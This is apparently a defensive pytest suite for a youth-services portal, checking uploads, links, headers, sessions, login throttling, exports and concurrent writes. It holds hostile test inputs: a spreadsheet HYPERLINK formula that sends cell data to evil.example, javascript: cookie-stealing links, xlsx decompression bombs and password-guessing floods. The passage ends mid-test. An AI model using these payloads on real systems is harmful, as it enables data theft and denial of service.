"""The portal as a deployment faces it (issue 29): each test is named after what it guards, and
each failed on the code before, which the probe of the running server broke. Uploads (size,
zip bombs, blocking), links that run script, security headers, sessions that end on the
server, sign-in throttling that cannot be dodged or turned on the owner, spreadsheet formulas,
numeric overflow, the referral key, server paths, secure cookies, and bursts of writes."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import statistics
import tempfile
import threading
import time
import zipfile
from datetime import date, datetime

import httpx
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select, text
from sqlalchemy.orm import Session

from conftest import add_listings, serve, small_programme
from vrukit.commissioning.models import Action, ActionUpdate, Objective, Spend
from vrukit.directory.load import load_hsds
from vrukit.directory.models import DirService
from vrukit.errors import ConfigError, InputFileError
from vrukit.programme.accounts import hash_password
from vrukit.programme.db import engine, session
from vrukit.programme.models import AuditEvent, Intervention, ReturnSubmission, User
from vrukit.referrals.crypto import Keyring, write_key
from vrukit.referrals.models import Pathway, Referral
from vrukit.referrals.workflow import create_referral
from vrukit.settings import get_settings
from vrukit.web.guard import Guard
from vrukit.web.portal.app import create_app
from vrukit.web.portal.security import RateLimit
from vrukit.web.server import portal_with_mounts, secret_for

SECRET = "a-test-session-secret-of-forty-characters!"
HEADER = "participant_ref,age,referred_by,engaged,sessions_attended,completed\n"
GOOD = HEADER + "P9001,15,school,yes,4,no\nP9002,16,police,no,0,no\n"
BOXING = ("boxing@demo.vru", "demo-provider-password")
ANALYST = ("analyst@demo.vru", "demo-analyst-password")
ADMIN = ("admin@demo.vru", "demo-admin-password")
COMMISSIONER = ("commissioner@demo.vru", "demo-commissioner-password")


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    """The demo programme with two listings: a store to copy for each test."""
    folder = tmp_path_factory.mktemp("hardening")
    url = small_programme(folder)
    eng = engine(url)
    with Session(eng) as s:
        add_listings(s, folder)
        s.commit()
    eng.dispose()  # the last connection closed: SQLite moves its write-ahead log into the file
    return folder / "programme.sqlite"  # which the tests copy (a copy of the file alone)


@pytest.fixture
def url(base, tmp_path):
    shutil.copy(base, tmp_path / "programme.sqlite")
    return f"sqlite:///{tmp_path / 'programme.sqlite'}"


def _client(url: str, **kwargs) -> TestClient:
    kwargs.setdefault("secret_key", SECRET)
    client_at = kwargs.pop("client", ("203.0.113.9", 50000))
    return TestClient(create_app(url, **kwargs), client=client_at)


def _csrf(c: TestClient, path: str = "/login") -> str:
    m = re.search(r'name="csrf_token" value="([^"]+)"', c.get(path).text)
    assert m, path
    return m.group(1)


def _login(c: TestClient, who: tuple[str, str], **headers: str) -> httpx.Response:
    email, password = who
    return c.post("/login", data={"email": email, "password": password,
                                  "csrf_token": _csrf(c)},
                  headers=headers, follow_redirects=False)  # fmt: skip


def _sign_in(c: TestClient, who: tuple[str, str]) -> str:
    r = _login(c, who)
    assert r.status_code == 303, r.text[-300:]
    return _csrf(c, "/")


def _live_sign_in(
    root: str, who: tuple[str, str], timeout: float = 120
) -> tuple[httpx.Client, str]:
    """An HTTP client signed in to the server at ``root``, and the CSRF token of its pages."""
    c = httpx.Client(base_url=root, follow_redirects=False, timeout=timeout)
    first = re.search(r'csrf_token" value="([^"]+)', c.get("/login").text).group(1)
    c.post("/login", data={"email": who[0], "password": who[1], "csrf_token": first})
    return c, re.search(r'csrf_token" value="([^"]+)', c.get("/").text).group(1)


def _live_login_form(root: str) -> tuple[httpx.Client, str]:
    """An HTTP client on the sign-in page of the server at ``root``, and its CSRF token."""
    c = httpx.Client(base_url=root, follow_redirects=False, timeout=120)
    return c, re.search(r'csrf_token" value="([^"]+)', c.get("/login").text).group(1)


def _own_intervention(url: str) -> int:
    with Session(engine(url)) as s:
        u = s.scalars(select(User).where(User.email == BOXING[0])).one()
        return s.scalars(
            select(Intervention.id).where(Intervention.provider_id == u.organisation_id)
        ).first()


def _submissions(url: str) -> int:
    with Session(engine(url)) as s:
        return s.scalar(select(func.count()).select_from(ReturnSubmission)) or 0


def _upload(c, token: str, iid: int, name: str, body: bytes, period: str = "2022-Q1"):
    return c.post(f"/interventions/{iid}/returns", data={"csrf_token": token, "period": period},
                  files={"file": (name, body, "text/csv")}, follow_redirects=False)  # fmt: skip


# -- uploads -------------------------------------------------------------------------------------


def test_an_upload_over_the_limit_is_refused_at_once_with_413(url):
    c = _client(url, guard=Guard(upload_max_bytes=64 * 1024))
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    big = (GOOD + "P9003,15,school,yes,4,no\n" * 4000).encode()  # about 100 KB
    r = _upload(c, token, iid, "big.csv", big)
    assert r.status_code == 413 and "VRUKIT_UPLOAD_MAX_BYTES" in r.text
    # a body sent in chunks, without a length, is cut off as it passes the limit
    chunks = (b"x" * 8192 for _ in range(20))
    form = {"content-type": "application/x-www-form-urlencoded"}  # so the server reads it
    r = c.post("/login", content=chunks, headers=form)
    assert r.status_code == 413
    assert _submissions(url) == before
    assert _upload(c, token, iid, "ok.csv", GOOD.encode()).status_code == 303


def test_an_xlsx_that_would_inflate_past_the_limit_is_refused_unread(url):
    c = _client(url, guard=Guard(xlsx_max_inflated_bytes=5 * 1024 * 1024))
    token = _sign_in(c, BOXING)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/worksheets/sheet1.xml", b"0" * (40 * 1024 * 1024))  # 40 MB of zeros
    assert len(buf.getvalue()) < 200_000  # a small file that would unpack to 40 MB
    iid, before = _own_intervention(url), _submissions(url)
    r = c.post(f"/interventions/{iid}/returns", data={"csrf_token": token, "period": "2022-Q1"},
               files={"file": ("bomb.xlsx", buf.getvalue(), "application/zip")})  # fmt: skip
    assert r.status_code == 422 and "unpacks to 40 MB, more than the 5 MB" in r.text
    assert _submissions(url) == before


def test_an_upload_does_not_hold_up_other_requests(url):
    """While a large return is being checked, other pages answer: every one of them before the
    upload's own answer (on the old code, an async handler parsed it on the event loop and
    every other request waited for it)."""
    rows = "".join(f"P{k},15,school,yes,4,no\n" for k in range(30_000))
    app = create_app(url, secret_key=SECRET, guard=Guard(return_max_rows=1_000_000))
    with serve(app) as root:
        up, token = _live_sign_in(root, BOXING, timeout=300)
        done: dict[str, float] = {}

        def upload() -> None:
            big = {"file": ("big.csv", (HEADER + rows).encode(), "text/csv")}
            r = up.post(f"/interventions/{_own_intervention(url)}/returns",
                        data={"csrf_token": token, "period": "2022-Q2"}, files=big)  # fmt: skip
            done["upload"] = time.monotonic()
            done["status"] = r.status_code

        t = threading.Thread(target=upload)
        t.start()
        time.sleep(0.3)  # the upload is being read and checked
        answered = []
        with httpx.Client(base_url=root) as other:
            for _ in range(5):
                assert other.get("/login").status_code == 200
                answered.append(time.monotonic())
        t.join(300)
        up.close()
    assert done["status"] == 303
    assert max(answered) < done["upload"], "other requests waited for the upload"


# -- links, headers --------------------------------------------------------------------------------


def test_a_javascript_link_is_refused_by_the_form_and_the_import_and_never_shown(url, tmp_path):
    c = _client(url)
    token = _sign_in(c, ADMIN)  # a verifier: a change is applied at once
    form = {"name": "Eastford Boxing", "status": "active", "minimum_age": "11",
            "maximum_age": "18", "csrf_token": token}  # fmt: skip
    for bad in ("javascript:alert(document.cookie)", " JaVa\tScRiPt:alert(1)", "data:text/html,x"):
        r = c.post("/directory/services/svc-1", data=form | {"url": bad})
        assert r.status_code == 422 and "is not a link vrukit stores" in r.text, bad
    assert c.post("/directory/services/svc-1", data=form | {"url": "www.eastford-boxing.org"},
                  follow_redirects=False).status_code == 303  # fmt: skip
    with Session(engine(url)) as s:
        assert s.get(DirService, "svc-1").url == "https://www.eastford-boxing.org"
    data = {"organizations": [{"id": "org-1", "name": "Eastford Youth Trust",
                               "description": "Youth clubs.", "website": "javascript:x()"}],
            "services": []}  # fmt: skip
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(data))
    with session(url) as s, pytest.raises(InputFileError, match=r"organizations\[0\].*website"):
        load_hsds(s, path)
    # a link stored before the check (or by hand) is never offered as a link
    with Session(engine(url)) as s:
        s.execute(text("UPDATE dir_service SET url = 'javascript:alert(1)' WHERE id = 'svc-2'"))
        s.commit()
    app = portal_with_mounts(url, get_settings(), secret=SECRET, migrate=False)
    page = TestClient(app).get("/youth-map/services/svc-2")
    assert page.status_code == 200 and "javascript:" not in page.text
    api = TestClient(app).get("/api/services/svc-2")
    assert api.status_code == 200 and "url" not in api.json() and "javascript" not in api.text


def test_every_response_carries_security_headers_and_a_fresh_csp_nonce(url):
    app = portal_with_mounts(url, get_settings(), secret=SECRET, migrate=False,
                             tiles="https://{s}.tile.example.org/{z}/{x}/{y}.png")  # fmt: skip
    c = TestClient(app)
    nonces = []
    for path in ("/login", "/youth-map/", "/api/services"):
        r = c.get(path)
        h = r.headers
        csp = h["content-security-policy"]
        assert "default-src 'self'" in csp and "frame-ancestors 'none'" in csp, path
        assert "object-src 'none'" in csp and "'unsafe-inline'" not in csp, path
        assert "img-src 'self' data: https://*.tile.example.org" in csp
        assert h["x-content-type-options"] == "nosniff" and h["x-frame-options"] == "DENY"
        assert h["referrer-policy"] == "same-origin"
        nonce = re.search(r"'nonce-([^']+)'", csp).group(1)
        nonces.append(nonce)
        if path != "/api/services":  # the pages' own style carries the nonce
            assert f'nonce="{nonce}"' in r.text, path
    assert len(set(nonces)) == 3


# -- sessions ------------------------------------------------------------------------------------


def _copy(c: TestClient, app) -> TestClient:
    other = TestClient(app, client=("203.0.113.10", 50001))
    other.cookies.update(c.cookies)
    return other


def test_logout_ends_the_session_on_the_server(url):
    app = create_app(url, secret_key=SECRET)
    c = TestClient(app, client=("203.0.113.9", 50000))
    token = _sign_in(c, ANALYST)
    kept = _copy(c, app)  # the cookie, copied before sign-out
    assert kept.get("/returns", follow_redirects=False).status_code == 200
    assert c.post("/logout", data={"csrf_token": token}, follow_redirects=False).status_code == 303
    for path in ("/returns", "/referrals/export.csv"):
        assert kept.get(path, follow_redirects=False).status_code == 303, path


def test_a_password_change_ends_every_other_session(url):
    app = create_app(url, secret_key=SECRET)
    me = TestClient(app, client=("203.0.113.9", 50000))
    token = _sign_in(me, ANALYST)
    elsewhere = _copy(me, app)
    r = me.post("/account/password", data={"current": ANALYST[1], "new": "a-brand-new-password",
                                           "csrf_token": token})  # fmt: skip
    assert r.status_code == 200 and "Your password is changed" in r.text
    assert me.get("/returns", follow_redirects=False).status_code == 200  # this one goes on
    assert elsewhere.get("/returns", follow_redirects=False).status_code == 303
    fresh = TestClient(app, client=("203.0.113.11", 50002))
    assert _login(fresh, ("analyst@demo.vru", "a-brand-new-password")).status_code == 303


# -- sign-in throttling --------------------------------------------------------------------------


def test_forwarded_for_is_believed_only_from_a_trusted_proxy(url):
    limit = RateLimit(per_client=3, per_account=100, per_device=100)
    c = _client(url, rate_limit=limit)
    for k in range(3):  # a client rotating X-Forwarded-For is still one client
        r = _login(c, (f"nobody{k}@x.org", "wrong-password"), **{"X-Forwarded-For": f"10.9.9.{k}"})
        assert r.status_code == 401
    r = _login(c, ANALYST, **{"X-Forwarded-For": "10.9.9.99"})
    assert r.status_code == 429
    # behind a trusted proxy, the address it appended is the client's: each is counted apart
    proxied = _client(url, rate_limit=limit, client=("192.0.2.1", 40000),
                      guard=Guard(trusted_proxies=("192.0.2.0/24",)))  # fmt: skip
    for k in range(3):
        r = _login(proxied, ("x@y.org", "wrong"), **{"X-Forwarded-For": f"1.2.3.4, 10.8.8.{k}"})
        assert r.status_code == 401
    assert _login(proxied, ANALYST, **{"X-Forwarded-For": "10.8.8.200"}).status_code == 303


def test_strangers_guesses_do_not_lock_the_owner_out(url):
    app = create_app(url, secret_key=SECRET)
    owner = TestClient(app, client=("198.51.100.7", 1))
    token = _sign_in(owner, ANALYST)  # the owner's browser now carries a device cookie
    owner.post("/logout", data={"csrf_token": token})
    attacker = TestClient(app, client=("203.0.113.66", 2))
    for _ in range(5):
        assert _login(attacker, (ANALYST[0], "guess-guess-guess")).status_code == 401
    assert _login(attacker, ANALYST).status_code == 429  # the account waits, for strangers
    assert _login(owner, ANALYST).status_code == 303  # not for its owner's browser


def test_guessing_spread_over_accounts_is_slowed_per_client(url):
    c = _client(url, rate_limit=RateLimit(per_client=5))
    for k in range(5):
        assert _login(c, (f"someone{k}@demo.vru", "password123456")).status_code == 401
    assert _login(c, ANALYST).status_code == 429


def test_sign_in_takes_as_long_for_an_unknown_account(url):
    """argon2id's cost is paid for unknown e-mail addresses too (721 ms against 18 ms before)."""
    c = _client(url, rate_limit=RateLimit(per_client=100, per_account=100))

    def seconds(email: str) -> float:
        t = time.perf_counter()
        assert _login(c, (email, "not-the-password")).status_code == 401
        return time.perf_counter() - t

    pairs = [(seconds(ANALYST[0]), seconds("no-such-person@demo.vru")) for _ in range(7)]
    known = statistics.median(k for k, _ in pairs)  # taken in turn: a busy machine slows both
    unknown = statistics.median(u for _, u in pairs)
    assert 0.5 < unknown / known < 2, (known, unknown)


# -- what comes out ------------------------------------------------------------------------------


def test_csv_exports_neutralise_spreadsheet_formulas(demo_region, tmp_path):
    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
    keyring = Keyring.from_file(demo_region.folder / "referral.key")
    formula = 'x;=HYPERLINK("https://evil.example/?"&A1,"open")'
    with session(url) as s:
        pathway = s.scalars(select(Pathway)).first()
        custody = s.scalars(select(User).where(User.email == "custody@demo.vru")).one()
        create_referral(
            s, keyring, pathway=pathway, identity={"given_name": "Ann", "family_name": "Bee",
            "date_of_birth": "2006-01-01"}, referring_org_id=custody.organisation_id,
            referrer_role=formula, age=16, sex="female", consent_given=True,
            at=datetime(2022, 5, 16, 12),
        )  # fmt: skip
    c = TestClient(create_app(url, secret_key=SECRET, referral_key=keyring))
    _sign_in(c, ANALYST)
    body = c.get("/referrals/export.csv").text
    roles = [row["referrer_role"] for row in csv.DictReader(io.StringIO(body))]
    assert formula.replace(";=", ";'=") in roles
    # text is quoted, so a spreadsheet that splits on ';' finds no formula after one
    cells = [v for row in csv.reader(io.StringIO(body), delimiter=";") for v in row]
    assert any("HYPERLINK" in v for v in cells)
    assert not any(v.lstrip('"').startswith(("=", "+", "@")) for v in cells)


def test_numeric_overflow_in_a_return_is_a_422_naming_the_cell(url):
    c = _client(url)
    token = _sign_in(c, BOXING)
    iid, before = _own_intervention(url), _submissions(url)
    for bad in ("1e400", "inf", "9" * 400, "nan"):
        r = _upload(c, token, iid, "r.csv", (HEADER + f"P1,{bad},school,yes,4,no\n").encode())
        assert r.status_code == 422 and "<td>2</td><td>age</td>" in r.text, bad
    assert _submissions(url) == before


def test_the_store_refuses_a_second_referral_key(url, tmp_path):
    first = Keyring.from_file(write_key(tmp_path / "a.key"))
    other = Keyring.from_file(write_key(tmp_path / "b.key"))
    create_app(url, secret_key=SECRET, referral_key=first)
    create_app(url, secret_key=SECRET, referral_key=first)  # the same key again: fine
    with pytest.raises(ConfigError, match=f"fingerprint {other.fingerprint}.*{first.fingerprint}"):
        create_app(url, secret_key=SECRET, referral_key=other)


def test_error_pages_show_no_server_paths(url):
    c = _client(url)
    token = _sign_in(c, BOXING)
    broken = {"file": ("broken.xlsx", b"PK\x03\x04 not really", "application/zip")}
    r = c.post(f"/interventions/{_own_intervention(url)}/returns",
               data={"csrf_token": token, "period": "2022-Q1"}, files=broken)  # fmt: skip
    assert r.status_code == 422 and "broken.xlsx" in r.text
    assert tempfile.gettempdir() not in r.text and "/src/vrukit" not in r.text


def test_the_session_cookie_is_secure_behind_tls_and_the_secret_is_required(url, monkeypatch):
    c = _client(url, guard=Guard(cookie_secure=True))
    c.base_url = httpx.URL("https://testserver")
    r = _login(c, ANALYST)
    cookies = r.headers.get_list("set-cookie")
    assert all("secure" in h.lower() and "httponly" in h.lower() for h in cookies), cookies
    assert "max-age=31536000" in r.headers["strict-transport-security"]
    monkeypatch.delenv("VRUKIT_SESSION_SECRET", raising=False)
    with pytest.raises(ConfigError, match="VRUKIT_SESSION_SECRET"):
        secret_for(get_settings())
    monkeypatch.setenv("VRUKIT_SESSION_SECRET", "short")
    with pytest.raises(ConfigError, match="32 or more"):
        secret_for(get_settings())


# -- many writers ----------------------------------------------------------------------------------


def _contract_quarters(url: str, iid: int) -> list[str]:
    """The quarters an intervention takes returns for: its contract's, to a year after."""
    with Session(engine(url)) as s:
        iv = s.get(Intervention, iid)
        start, end = iv.contract_start, iv.contract_end or date.today()
    last = min(date(end.year + 1, end.month, 1), date.today())
    out, y, q = [], start.year, (start.month - 1) // 3 + 1
    while date(y, 3 * q - 2, 1) <= last:
        out.append(f"{y}-Q{q}")
        y, q = (y + 1, 1) if q == 4 else (y, q + 1)
    return out


def test_bursts_of_writes_never_fail_and_each_is_stored_before_its_redirect(url):
    """30 providers' uploads at once (the probe: 18 HTTP 500s, 'database is locked'): every one
    is stored, and the page it redirects to shows it at once, from another connection."""
    app = create_app(url, secret_key=SECRET)
    iid, before = _own_intervention(url), _submissions(url)
    quarters = _contract_quarters(url, iid)
    results: list[tuple[int, int]] = []
    with serve(app) as root:
        clients = [_live_sign_in(root, BOXING) for _ in range(30)]
        gate = threading.Barrier(30)

        def one(k: int) -> None:
            c, token = clients[k]
            gate.wait()
            r = c.post(f"/interventions/{iid}/returns",
                       data={"csrf_token": token, "period": quarters[k % len(quarters)]},
                       files={"file": ("r.csv", GOOD.encode(), "text/csv")})  # fmt: skip
            shown = c.get(r.headers.get("location", "/nowhere")).status_code
            results.append((r.status_code, shown))

        threads = [threading.Thread(target=one, args=(k,)) for k in range(30)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(300)
        for c, _ in clients:
            c.close()
    assert sorted(results) == [(303, 200)] * 30
    assert _submissions(url) == before + 30


def test_the_referral_key_is_rotated_in_one_step_and_the_old_key_then_refused(
    demo_region, tmp_path, monkeypatch
):
    from typer.testing import CliRunner

    from vrukit.cli import app as cli
    from vrukit.referrals.models import Subject

    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
    old_file = demo_region.folder / "referral.key"
    old, new_file = Keyring.from_file(old_file), write_key(tmp_path / "new.key")
    with Session(engine(url)) as s:
        sealed = s.scalars(select(Subject).where(Subject.identity.is_not(None))).first()
        before = old.open(sealed.identity)
        held = s.scalar(select(func.count()).select_from(Subject)
                        .where(Subject.identity.is_not(None)))  # fmt: skip
    monkeypatch.setenv("VRUKIT_REFERRAL_KEY_FILE", str(old_file))
    res = CliRunner().invoke(cli, ["referrals", "rotate-key", str(new_file), "--store", url])
    assert res.exit_code == 0, res.output
    assert f"{held:,} subjects' details re-sealed" in " ".join(res.output.split())
    new = Keyring.from_file(new_file)
    with Session(engine(url)) as s:
        again = s.get(Subject, sealed.id)
        assert new.open(again.identity) == before
        assert again.match_key == new.match_key(
            before["given_name"], before["family_name"], before["date_of_birth"]
        )
    with pytest.raises(ConfigError, match="not the key this store"):
        create_app(url, secret_key=SECRET, referral_key=old)
    create_app(url, secret_key=SECRET, referral_key=new)


def test_a_sign_in_flood_queues_and_never_fails(url):
    """45 wrong passwords at once, with no account (the probe: 39 HTTP 500s and every page
    stalled for 30 s): each is answered 401 or 429, and a page asked for meanwhile answers."""
    app = create_app(url, secret_key=SECRET)
    with serve(app) as root:
        clients = [_live_login_form(root) for _ in range(45)]
        gate = threading.Barrier(46)
        codes: list[int] = []

        def one(k: int) -> None:
            c, token = clients[k]
            gate.wait()
            r = c.post("/login", data={"email": f"x{k}@demo.vru", "password": "wrong-password",
                                       "csrf_token": token})  # fmt: skip
            codes.append(r.status_code)

        threads = [threading.Thread(target=one, args=(k,)) for k in range(45)]
        for t in threads:
            t.start()
        gate.wait()
        with httpx.Client(base_url=root, timeout=120) as other:
            page = other.get("/login")
        for t in threads:
            t.join(300)
        for c, _ in clients:
            c.close()
    assert page.status_code == 200
    assert len(codes) == 45 and set(codes) <= {401, 429}, sorted(codes)


def test_an_xlsx_whose_shared_strings_fill_many_cells_is_refused_unread(url):
    """A 12 KB workbook whose one 1 MB shared string fills 300 cells holds 300 MB of text: its
    zip sizes pass, its cells do not (the probe took the server to 5.7 GB)."""
    c = _client(url, guard=Guard(xlsx_max_inflated_bytes=50 * 1024 * 1024))
    token = _sign_in(c, BOXING)
    ns = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    cells = "".join(f'<row r="{k}"><c r="A{k}" t="s"><v>0</v></c></row>' for k in range(1, 301))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/sharedStrings.xml", f"<sst {ns}><si><t>{'x' * 2**20}</t></si></sst>")
        z.writestr("xl/worksheets/sheet1.xml", f"<worksheet {ns}><sheetData>{cells}"
                                               "</sheetData></worksheet>")  # fmt: skip
    assert len(buf.getvalue()) < 20_000
    r = c.post(f"/interventions/{_own_intervention(url)}/returns",
               data={"csrf_token": token, "period": "2022-Q1"},
               files={"file": ("strings.xlsx", buf.getvalue(), "application/zip")})  # fmt: skip
    assert r.status_code == 422 and "300 MB of cell text" in r.text, r.text[-600:]


def test_a_training_upload_does_not_hold_up_other_requests(url):
    rows = "".join(f"P{k},School,2022-01-{k % 28 + 1:02d},20,I feel safe,2,{k % 5 + 1}\n"
                   for k in range(60_000))  # fmt: skip
    with Session(engine(url)) as s:
        iid = s.scalars(
            select(Intervention.id).where(Intervention.thematic_area == "trauma_informed")
        ).first()
        provider = s.scalars(select(Intervention).where(Intervention.id == iid)).one().provider_id
        email = s.scalars(select(User.email).where(User.organisation_id == provider)).first()
    app = create_app(url, secret_key=SECRET, guard=Guard(return_max_rows=1_000_000))
    with serve(app) as root:
        who = (email or ADMIN[0], "demo-provider-password" if email else ADMIN[1])
        up, token = _live_sign_in(root, who, timeout=300)
        done: dict[str, float] = {}

        def upload() -> None:
            head = "participant_ref,organisation,trained_on,reached_per_week,statement,pre,post\n"
            body = (head + rows).encode()
            r = up.post(f"/interventions/{iid}/training", data={"csrf_token": token},
                        files={"file": ("t.csv", body, "text/csv")}, timeout=300)  # fmt: skip
            done["at"], done["status"] = time.monotonic(), r.status_code

        t = threading.Thread(target=upload)
        t.start()
        time.sleep(0.3)
        answered = []
        with httpx.Client(base_url=root) as other:
            for _ in range(5):
                assert other.get("/login").status_code == 200
                answered.append(time.monotonic())
        t.join(300)
        up.close()
    assert done["status"] in (200, 422), done
    assert max(answered) < done["at"], "other requests waited for the training upload"


def test_odd_numbers_and_file_names_give_422_or_are_tidied_never_500(url):
    c = _client(url)
    token = _sign_in(c, ADMIN)
    for value in ("²", "9" * 5000, "-1"):
        r = c.post("/admin/users", data={"email": "n@x.org", "password": "x" * 12,
                                         "role": "provider", "organisation_id": value,
                                         "csrf_token": token})  # fmt: skip
        assert r.status_code == 422, (value[:5], r.status_code)
        form = {"name": "B", "status": "active", "minimum_age": value, "csrf_token": token}
        r = c.post("/directory/services/svc-1", data=form)
        assert r.status_code == 422, (value[:5], r.status_code)
    p = _client(url)
    token = _sign_in(p, BOXING)
    long_name = "r" * 300 + "\x00" + ".csv"
    r = _upload(p, token, _own_intervention(url), long_name, GOOD.encode())
    assert r.status_code == 303, r.text[-300:]
    with Session(engine(url)) as s:
        newest = select(ReturnSubmission.file_name).order_by(ReturnSubmission.id.desc())
        stored = s.scalars(newest).first()
    assert stored and len(stored) <= 120 and "\x00" not in stored and stored.endswith(".csv")


def _refer_as(s, keyring, email: str, pathway, phone: str, note: str, at: datetime):
    from vrukit.referrals.workflow import create_referral

    u = s.scalars(select(User).where(User.email == email)).one()
    person = {"given_name": "Mia", "family_name": "Merge", "date_of_birth": "2009-02-02",
              "phone": phone, "contact_notes": note}  # fmt: skip
    return create_referral(s, keyring, pathway=pathway, identity=person,
                           referring_org_id=u.organisation_id, referrer_role="worker", age=13,
                           sex="female", consent_given=True, at=at, by=u)  # fmt: skip


def test_a_duplicate_across_organisations_keeps_each_referrers_details(demo_region, tmp_path):
    """Custody and A&E each refer the same young person to one provider, who decides it is the
    same person (the probe: custody's referral then showed A&E's phone and note). Each referrer
    still reads only what it gave, and the possible-duplicate notice is the receiver's alone."""
    from vrukit.referrals.workflow import decide_duplicate

    shutil.copy(demo_region.folder / "programme.sqlite", tmp_path / "p.sqlite")
    url = f"sqlite:///{tmp_path / 'p.sqlite'}"
    keyring = Keyring.from_file(demo_region.folder / "referral.key")
    at = datetime(2022, 5, 16, 12)
    with session(url) as s:
        custody = s.scalars(select(User).where(User.email == "custody@demo.vru")).one()
        ae = s.scalars(select(User).where(User.email == "ae@demo.vru")).one()
        pathway = s.scalars(select(Pathway).where(Pathway.provider_id.not_in(
            [custody.organisation_id, ae.organisation_id]))).first()  # fmt: skip
        first = _refer_as(s, keyring, "custody@demo.vru", pathway, "07700 900001",
                          "custody's note", at)  # fmt: skip
        second = _refer_as(s, keyring, "ae@demo.vru", pathway, "07700 900002", "ae's note",
                           at.replace(hour=13))  # fmt: skip
        assert second.duplicate_of_id == first.id and second.duplicate_status == "pending"
        receiver = s.scalars(
            select(User).where(User.organisation_id == pathway.provider_id)
        ).first()
        ids = first.id, second.id
        receiver_email = receiver.email if receiver else None
    app = create_app(url, secret_key=SECRET, referral_key=keyring, now=lambda: at.replace(hour=14))
    ae_client = TestClient(app, client=("203.0.113.20", 1))
    _sign_in(ae_client, ("ae@demo.vru", "demo-provider-password"))
    assert "Possible duplicate" not in ae_client.get(f"/referrals/{ids[1]}").text
    with session(url) as s:
        decide_duplicate(s, s.scalars(select(User).where(User.email == receiver_email)).first(),
                         s.get(Referral, ids[1]), True, at.replace(hour=15))  # fmt: skip
    c = TestClient(app, client=("203.0.113.21", 2))
    _sign_in(c, ("custody@demo.vru", "demo-referrer-password"))
    shown = c.get(f"/referrals/{ids[0]}/identity").text
    assert "07700 900001" in shown and "custody&#39;s note" in shown
    assert "07700 900002" not in shown and "ae&#39;s note" not in shown
    shown = ae_client.get(f"/referrals/{ids[1]}/identity").text
    assert "07700 900002" in shown and "07700 900001" not in shown


# -- the second probe's findings -------------------------------------------------------------------


@pytest.mark.parametrize("variant", ["namespace", "plus", "decoy", "root", "bin"])
def test_an_xlsx_cannot_hide_its_shared_strings_from_the_size_check(url, variant):
    """The same 300 MB of cell text, hidden as the two probes hid it, is refused before it is
    read: another XML namespace, indexes written "+0", a one-letter decoy table before the
    real one, a sheet whose root is renamed, a sheet in a part not ending in .xml."""
    c = _client(url, guard=Guard(xlsx_max_inflated_bytes=50 * 1024 * 1024))
    token = _sign_in(c, BOXING)
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    ns = 'xmlns="urn:bogus"' if variant == "namespace" else main
    index = "+0" if variant == "plus" else "0"
    root = "x" if variant == "root" else "worksheet"
    sheet = "xl/worksheets/sheet1." + ("bin" if variant == "bin" else "xml")
    cells = "".join(f'<row r="{k}"><c r="A{k}" t="s"><v>{index}</v></c></row>'
                    for k in range(1, 301))  # fmt: skip
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        if variant == "decoy":
            z.writestr("xl/a.xml", f"<sst {ns}><si><t>y</t></si></sst>")
        z.writestr("xl/sharedStrings.xml", f"<sst {ns}><si><t>{'x' * 2**20}</t></si></sst>")
        z.writestr(sheet, f"<{root} {ns}><sheetData>{cells}</sheetData></{root}>")
    r = c.post(f"/interventions/{_own_intervention(url)}/returns",
               data={"csrf_token": token, "period": "2022-Q1"},
               files={"file": ("hidden.xlsx", buf.getvalue(), "application/zip")})  # fmt: skip
    assert r.status_code == 422 and "300 MB of cell text" in r.text, r.text[-400:]


def test_parallel_guesses_count_before_the_password_is_checked(url):
    """20 wrong passwords sent at once for one account (the probe: 20 checked against a limit
    of 5): at most five are checked, the rest wait 15 minutes."""
    app = create_app(url, secret_key=SECRET, rate_limit=RateLimit(per_client=100, per_account=5))
    with serve(app) as root:
        clients = [_live_login_form(root) for _ in range(20)]
        gate = threading.Barrier(20)
        codes: list[int] = []

        def one(k: int) -> None:
            c, token = clients[k]
            gate.wait()
            codes.append(c.post("/login", data={"email": ANALYST[0], "password": f"guess-{k}",
                                                "csrf_token": token}).status_code)  # fmt: skip

        threads = [threading.Thread(target=one, args=(k,)) for k in range(20)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(120)
        for c, _ in clients:
            c.close()
    assert len(codes) == 20 and codes.count(401) == 5 and codes.count(429) == 15, sorted(codes)


def test_a_partners_training_records_are_its_own(url):
    """A partner provider's training records are stored as its own, and do not stop the lead
    provider recording a participant of the same reference (the probe: stored as the lead's)."""
    iid = _own_intervention(url)
    with Session(engine(url)) as s:
        iv = s.get(Intervention, iid)
        other = s.scalars(select(User).where(User.email == "ae@demo.vru")).one()
        iv.partners = [s.get(type(iv.provider), other.organisation_id)]
        s.commit()
        lead_org, partner_org = iv.provider_id, other.organisation_id
    lead_email, partner_email = BOXING[0], "ae@demo.vru"
    head = "participant_ref,organisation,trained_on,reached_per_week,statement,pre,post\n"
    for email, pre in ((partner_email, 5), (lead_email, 1)):
        c = _client(url, client=("203.0.113.30", 3))
        token = _sign_in(c, (email, "demo-provider-password"))
        body = (head + f"SAME-001,School,2022-01-10,20,I feel safe,{pre},3\n").encode()
        r = c.post(f"/interventions/{iid}/training", data={"csrf_token": token},
                   files={"file": ("t.csv", body, "text/csv")})  # fmt: skip
        assert r.status_code == 200 and "1 participant added" in r.text, r.text[-400:]
    from vrukit.programme.models import TrainingRecord

    with Session(engine(url)) as s:
        got = s.execute(select(TrainingRecord.organisation_id).where(
            TrainingRecord.intervention_id == iid,
            TrainingRecord.participant_ref == "SAME-001")).scalars().all()  # fmt: skip
